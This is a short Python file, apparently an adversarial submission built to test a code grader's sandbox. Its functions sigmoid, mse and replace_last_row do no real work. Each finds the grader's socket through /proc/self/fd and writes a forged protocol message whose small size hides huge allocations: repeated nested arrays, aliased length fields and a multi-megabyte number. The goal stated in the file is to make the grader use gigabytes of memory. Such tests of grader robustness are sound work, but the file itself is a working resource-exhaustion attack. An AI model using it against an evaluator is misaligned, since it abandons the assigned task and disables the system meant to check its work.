"""Goal: make the grader use gigabytes of memory for an answer of a few megabytes.

Without a sandbox: fails
"""

import os
import struct

WIRE = next(number for number in range(3, 16) if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"))
ITEMS = 5_000_000


def answer(header, body=b""):
    data = struct.pack("<4sIQ", b"AGW1", len(header), len(body)) + header + body
    while data:
        data = data[os.write(WIRE, data) :]
    os._exit(0)


def sigmoid(x):
    answer(b"[[" + b"{}," * ITEMS + b"0],[]]")


def mse(y_true, y_pred):
    # All buffers are the same bytes, if whoever reads them does not look at their lengths.
    answer(b"[0,[" + b"67108864," * 65_535 + b"67108864]]", bytes(1 << 26))


def replace_last_row(x, row):
    answer(b"[" + b"9" * (1 << 23) + b",[]]")
